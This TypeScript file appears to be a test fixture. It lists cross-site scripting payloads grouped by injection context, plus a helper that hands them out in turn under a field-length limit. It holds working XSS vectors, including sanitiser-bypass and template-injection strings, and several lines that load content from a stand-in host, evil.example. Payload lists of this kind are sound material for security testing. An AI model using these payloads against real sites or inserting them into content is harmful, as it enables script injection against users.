/**
 * What somebody writes into a text so that it runs for anyone who reads it, by where it would have to stand unescaped: in a
 * page, in an attribute, as an address, in a script, in HTML that somebody only half cleans. Each calls alert or loads
 * something; none is longer than the shortest name that an installation keeps, or it goes where there is room.
 */
export const vectors = {
  element: [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt><img src=x onerror=alert(1)>",
    "<script >alert(1)</script\t>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src='x'/onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert`1`>",
    "<img src='x'onerror=alert(1)>",
    "<img src onerror=&#97;lert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href=data:image/svg+xml,x></svg><svg onload=alert(1)>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<body onload=alert(1)><b onclick=alert(1)>x</b>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import'//evil.example';</style>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=vbscript:alert(1)>x</a>",
    "<x onpointerenter=alert(1)>x</x>",
    "<p style=background:url(//evil.example)>x</p>",
    "<div popover onbeforetoggle=alert(1)>x</div>",
  ],
  attribute: [
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onfocus=alert(1) autofocus x="',
    '" onmouseover="alert(1)',
    '"/><svg onload=alert(1)>',
    '" style="background:url(//evil.example)',
    '"><img src=x onerror=alert(1)>',
  ],
  address: [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    "\u0001javascript:alert(1)",
    "javascript://x%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
  ],
  script: [
    "</script><script>alert(1)</script>",
    "</script><svg onload=alert(1)>",
    "</ScRiPt ><img src=x onerror=alert(1)>",
  ],
  halfCleaned: [
    "<!--<script></script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "{{constructor.constructor('alert(1)')()}}",
    "#{alert(1)}",
    "$t(x){{x}}<img src=x onerror=alert(1)>",
  ],
} as const;

export type Context = keyof typeof vectors;

export const allVectors: readonly string[] = Object.values(vectors).flat();

/** Texts of fields take no control characters: what has some is refused there, and tried on commentary alone. */
const writable = allVectors.filter((vector) => !/\p{Cc}/u.test(vector));

/** Vectors in turn, beginning with one of them: the next that is short enough for a field. */
export function inTurn(from: number): (field: string, longest: number) => string {
  let at = from;
  return (_, longest) => {
    for (;;) {
      const vector = writable[at++ % writable.length] ?? "";
      if (vector.length <= longest) return vector;
    }
  };
}
